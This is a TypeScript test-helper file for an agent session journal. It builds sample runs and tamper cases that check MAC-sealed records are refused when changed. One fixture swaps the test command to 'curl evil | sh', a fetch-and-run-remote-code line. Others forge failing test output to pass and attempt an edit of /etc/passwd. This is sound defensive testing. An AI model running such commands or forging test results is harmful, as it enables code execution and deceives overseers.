import type { ActionRecord } from "../../lib/briefing/report.ts";
import {
  type ResultDescriptor,
  ResultStore,
} from "../../lib/store/result_store.ts";
import { saveSnapshot, SessionStore } from "../../lib/persist/session_store.ts";
import type {
  LoadedSession,
  SessionRun,
  SessionSaveInfo,
} from "../../lib/persist/session_types.ts";
import type { PersistenceOverrides } from "../../lib/persist/tool_policy.ts";
import type { SliceSnapshot } from "../../lib/slice/run_state.ts";
import { runStateOf } from "../../lib/persist/session_verify.ts";
import { sealRecord } from "../../lib/persist/_journal.ts";
import { storeWith, testsRunRecord } from "../_factories.ts";
import assert from "node:assert/strict";

/** A workspace, a session root and a key file in one temp dir, removed when disposed. */
export interface Layout extends AsyncDisposable {
  readonly base: string;
  readonly workspace: string;
  readonly root: string;
  /** The session key, outside root and workspace. */
  readonly keyFile: string;
  /** Removes the temp dir (what disposing does). */
  cleanup(): Promise<void>;
}

/** A workspace and a session root side by side in one temp dir. */
export async function tempLayout(): Promise<Layout> {
  const base = await Deno.realPath(
    await Deno.makeTempDir({ prefix: "loom-persist-" }),
  );
  const workspace = `${base}/ws`;
  const root = `${base}/sessions/one`;
  await Deno.mkdir(`${workspace}/src`, { recursive: true });
  await Deno.writeTextFile(
    `${workspace}/src/a.ts`,
    "export const INSPECTED_BODY = 1;\n",
  );
  await Deno.writeTextFile(`${workspace}/README.md`, "# Readme body text\n");
  return {
    base,
    workspace,
    root,
    keyFile: `${base}/keys/session.key`,
    cleanup: () => Deno.remove(base, { recursive: true }),
    [Symbol.asyncDispose]: () => Deno.remove(base, { recursive: true }),
  };
}

/** How the sample session runs. */
export const RUN: SessionRun = {
  intent: "Fix the mean",
  policy: "bounded",
  model: "recorded:fixtures/recordings/x.json",
  test: { command: ["deno", "run", "check.ts"], timeoutMs: 30_000 },
  maxSteps: 20,
};

/** Creates the session of a layout (key in the layout). */
export function createSession(
  layout: Layout,
  overrides?: PersistenceOverrides,
): Promise<SessionStore> {
  return SessionStore.create(layout.root, {
    workspace: layout.workspace,
    keyFile: layout.keyFile,
    run: overrides === undefined ? RUN : { ...RUN, overrides },
  });
}

/** Opens the session of a layout (key in the layout). */
export function openSession(layout: Layout): Promise<SessionStore> {
  return SessionStore.open(layout.root, { keyFile: layout.keyFile });
}

/** Opens, loads and closes the session of a layout. */
export async function reload(layout: Layout): Promise<LoadedSession> {
  const store = await openSession(layout);
  try {
    return await store.load();
  } finally {
    await store.close();
  }
}

/**
 * Test output above the default persistence threshold of `tests.run`
 * (30 000 characters), so a save writes it to `tool-results/`.
 */
export const TEST_OUTPUT =
  "FAIL stats_test.ts\nexpected 3, got 4\nTEST_OUTPUT_BODY\n" +
  "ok   check passed\n".repeat(2_000);

/** A run of three steps: inspect two files, run the tests, refuse one. */
export async function sampleRun(): Promise<
  {
    results: ResultStore;
    records: ActionRecord[];
    snapshot: SliceSnapshot;
  }
> {
  const { results, descriptors: [a, readme, output] } = await storeWith(
    ["export const INSPECTED_BODY = 1;\n", "repository.inspect src/a.ts"],
    ["# Readme body text\n", "repository.inspect README.md"],
    [TEST_OUTPUT, "tests.run deno run check.ts", "partial"],
  );
  const records: ActionRecord[] = [
    {
      sequence: 1,
      action: "repository.inspect",
      arguments: { paths: ["src/a.ts", "README.md", "gone.txt"] },
      report: {
        kind: "inspected",
        files: [
          { path: "src/a.ts", descriptor: a },
          { path: "README.md", descriptor: readme },
          { path: "gone.txt", missing: true },
        ],
      },
    },
    testsRunRecord(2, output, {
      confinement: "subprocess (not confined by Deno)",
    }),
    {
      sequence: 3,
      action: "repository.edit",
      arguments: { files: [{ path: "/etc/passwd", contents: "EDIT_BODY" }] },
      report: {
        kind: "refused",
        code: "absolute_path",
        reason: "Absolute paths are refused",
      },
    },
  ];
  return { results, records, snapshot: snapshotOf(results, records) };
}

/** A layout whose session holds the sample run, with what was saved. */
export interface SavedSample extends Layout {
  readonly results: ResultStore;
  readonly records: ActionRecord[];
  /** What the last save reported. */
  readonly info: SessionSaveInfo;
}

/**
 * Saves the sample run in a fresh layout and closes the session: as one
 * snapshot, or `stepwise` as one per step (header + 3 step records).
 */
export async function savedSample(
  options: { overrides?: PersistenceOverrides; stepwise?: boolean } = {},
): Promise<SavedSample> {
  const layout = await tempLayout();
  const { results, records, snapshot } = await sampleRun();
  const session = await createSession(layout, options.overrides);
  let info: SessionSaveInfo | undefined;
  for (let n = options.stepwise === true ? 1 : 3; n <= 3; n += 1) {
    info = await saveSnapshot(session, {
      ...snapshot,
      steps: n,
      modelCalls: 2 * n,
      records: records.slice(0, n),
    });
  }
  await session.close();
  return { ...layout, results, records, info: info! };
}

/** The snapshot after these records (one step per record). */
export function snapshotOf(
  results: ResultStore,
  records: readonly ActionRecord[],
  extra: Partial<SliceSnapshot> = {},
): SliceSnapshot {
  return {
    steps: records.length,
    modelCalls: records.length * 2,
    edits: 0,
    refusals: records.filter((r) => r.report.kind === "refused").length,
    consecutiveRefusals: 0,
    retrievals: 0,
    argumentsReparsed: 0,
    bytesTotal: 0,
    bytesPeak: 0,
    modelMs: 1.5,
    archived: 0,
    checkpoints: 0,
    revision: null,
    notes: [],
    lastTurn: null,
    requests: [],
    records,
    results,
    stop: null,
    ...extra,
  };
}

/** The journal's records, parsed (MACs included). */
// deno-lint-ignore no-explicit-any -- free-form access to parsed JSON
export async function journalOf(root: string): Promise<Record<string, any>[]> {
  return (await Deno.readTextFile(`${root}/journal.jsonl`)).split("\n")
    .filter((line) => line !== "").map((line) => JSON.parse(line));
}

/** The catalogue entries of every step record, by result id. */
export async function catalogueOf(
  root: string,
  // deno-lint-ignore no-explicit-any -- free-form access to parsed JSON
): Promise<Record<string, any>> {
  return Object.assign(
    {},
    ...(await journalOf(root)).map((record) => record.results ?? {}),
  );
}

/**
 * Rewrites the journal's records. Without a key the MACs stay as they were
 * (what anyone who can write the folder can do); with the key the whole
 * chain is sealed again (what only the key's owner can do), so checks
 * behind the chain are reached.
 */
export async function rewriteJournal(
  root: string,
  // deno-lint-ignore no-explicit-any -- free-form edits of parsed JSON
  edit: (records: Record<string, any>[]) => Record<string, any>[],
  keyFile?: string,
): Promise<void> {
  const records = edit(await journalOf(root));
  let text = "";
  let previous = "";
  const key = keyFile === undefined ? undefined : Uint8Array.from(
    (await Deno.readTextFile(keyFile)).trim().match(/../g)!,
    (byte) => parseInt(byte, 16),
  );
  for (const record of records) {
    if (key !== undefined) {
      const { mac: _, ...rest } = record;
      const sealed = sealRecord(key, previous, rest);
      text += `${sealed.text}\n`;
      previous = sealed.mac;
    } else {
      text += `${JSON.stringify(record)}\n`;
    }
  }
  await Deno.writeTextFile(`${root}/journal.jsonl`, text);
}

/** Every file under a directory with its bytes (sorted), to compare trees. */
export async function snapshotTree(dir: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  async function walk(path: string, rel: string): Promise<void> {
    let entries: Deno.DirEntry[] = [];
    try {
      entries = await Array.fromAsync(Deno.readDir(path));
    } catch (error) {
      if (error instanceof Deno.errors.NotFound) return;
      throw error;
    }
    for (const entry of entries.sort((x, y) => x.name.localeCompare(y.name))) {
      const child = `${path}/${entry.name}`;
      const name = rel === "" ? entry.name : `${rel}/${entry.name}`;
      if (entry.isDirectory) {
        out.set(`${name}/`, "");
        await walk(child, name);
      } else {
        const info = await Deno.lstat(child);
        out.set(
          name,
          `${info.mtime?.getTime()}:${await Deno.readTextFile(child)}`,
        );
      }
    }
  }
  await walk(dir, "");
  return out;
}

/** A `tests.run` record of one step. */
export function testsRecord(
  sequence: number,
  output: ResultDescriptor,
  exitCode: number,
): ActionRecord {
  return testsRunRecord(sequence, output, { exitCode });
}

/** Whether a path exists (symlinks not followed). */
export async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

// deno-lint-ignore no-explicit-any -- free-form edits of parsed JSON
type JournalLine = Record<string, any>;

/** A journal edit: what it does, the first record it breaks, the edit. */
export type JournalTamper = [
  string,
  number,
  (records: JournalLine[]) => JournalLine[] | void,
];

/**
 * Records changed without the key (in place), on the sample session saved
 * stepwise: each must be refused as `session_tampered` naming the record.
 */
export const CHANGED_RECORDS: readonly JournalTamper[] = [
  ["a failed test record rewritten to exit_code 0", 2, (r) => {
    r[2]!.records[0].report.exit_code = 0;
  }],
  ["a changed test command", 0, (r) => {
    r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
  }],
  ["a widened workspace", 0, (r) => {
    r[0]!.workspace = "/";
  }],
  ["a raised step budget", 0, (r) => {
    r[0]!.max_steps = 1_000;
  }],
  ["counters rolled back", 3, (r) => {
    r[3]!.counters.model_calls = 0;
  }],
];

/** Records reordered, dropped or duplicated: refused like a changed one. */
export const REORDERED_RECORDS: readonly JournalTamper[] = [
  ["two records swapped", 1, (r) => [r[0]!, r[2]!, r[1]!, r[3]!]],
  ["a record dropped", 2, (r) => [r[0]!, r[1]!, r[3]!]],
  ["a record duplicated", 2, (r) => [r[0]!, r[1]!, r[1]!, r[2]!, r[3]!]],
  ["the header dropped", 0, (r) => [r[1]!, r[2]!, r[3]!]],
];

/**
 * Starts `_kill_writer.ts` (a session saved step by step, each step
 * acknowledged on its output) and kills it with SIGKILL `delayMs` after
 * its `acks`-th acknowledgement: somewhere inside a later step.
 *
 * @param acks Acknowledged steps to wait for.
 * @param delayMs How long after them to kill it.
 * @param args The writer's arguments: session, workspace, key file, store.
 * @param net Whether it needs the network (a database store).
 * @returns How many steps it acknowledged.
 */
export async function killWriterAfter(
  acks: number,
  delayMs: number,
  args: readonly string[],
  net = false,
): Promise<number> {
  const child = new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "--allow-read",
      "--allow-write",
      "--allow-run",
      "--allow-env",
      ...(net ? ["--allow-net=127.0.0.1"] : []),
      new URL("./_kill_writer.ts", import.meta.url).pathname,
      ...args,
    ],
    stdin: "null",
    stdout: "piped",
    stderr: "inherit",
  }).spawn();
  let acked = 0;
  let text = "";
  const reader = child.stdout.pipeThrough(new TextDecoderStream())
    .getReader();
  while (acked < acks) {
    const { value, done } = await reader.read();
    if (done) break;
    text += value;
    acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
  }
  await new Promise((resolve) => setTimeout(resolve, delayMs));
  child.kill("SIGKILL");
  assert.equal((await child.status).signal, "SIGKILL");
  await reader.cancel();
  return acked;
}

/**
 * Asserts that a session loaded after its writer was killed kept every
 * acknowledged step, whole and in order, each with its result.
 *
 * @param loaded The loaded (or verified) session.
 * @param acked How many steps the writer acknowledged.
 */
export function assertKeptSteps(loaded: LoadedSession, acked: number): void {
  assert.ok(loaded.state.steps >= acked, `${loaded.state.steps} < ${acked}`);
  assert.deepEqual(
    runStateOf(loaded).records.map((r) => r.sequence),
    Array.from({ length: loaded.state.steps }, (_, i) => i + 1),
  );
  assert.equal(loaded.results.length, loaded.state.steps);
}

/** The sample's failing test output, forged to pass. */
export const FORGED_OUTPUT = TEST_OUTPUT.replace(
  "expected 3, got 4",
  "all passed",
);

/**
 * Points the sample's test record (record 2, `result-3`) at a forged body
 * with its recomputed digest and a passing exit code: what an attacker
 * who can write the session but has no key would do.
 *
 * @param records The journal's parsed lines (changed in place).
 * @param digest The forged body's SHA-256.
 * @returns The records.
 */
export function pointAtForged(
  records: JournalLine[],
  digest: string,
): JournalLine[] {
  const entry = records[2]!.results["result-3"];
  entry.sha256 = digest;
  entry.utf8_bytes = new TextEncoder().encode(FORGED_OUTPUT).length;
  entry.source.persisted = `tool-results/${digest}.txt`;
  records[2]!.records[0].report.output.sha256 = digest;
  records[2]!.records[0].report.exit_code = 0;
  return records;
}

/**
 * A run of as many steps as a writer saves (a killed writer, the storage
 * benchmark): step N is a failing or passing `tests.run` whose output is
 * large enough to go to `tool-results/`.
 */
export class EndlessRun {
  readonly #results = new ResultStore({
    maxResults: 1_000_000,
    maxTotalBytes: 2 ** 40,
  });
  readonly #records: ActionRecord[] = [];

  /** How the session runs: the sample's, with a step budget never reached. */
  static readonly RUN: SessionRun = { ...RUN, maxSteps: 1_000_000 };

  /**
   * Adds step `n` (the next) and returns the run's state after it.
   *
   * @param n The step's number.
   * @returns The snapshot to save.
   */
  async step(n: number): Promise<SliceSnapshot> {
    const output = await this.#results.put(`step ${n}\n`.repeat(4_000), {
      origin: "tests.run x",
      capture: "complete",
    });
    this.#records.push(testsRecord(n, output, n % 2));
    return snapshotOf(this.#results, this.#records);
  }
}
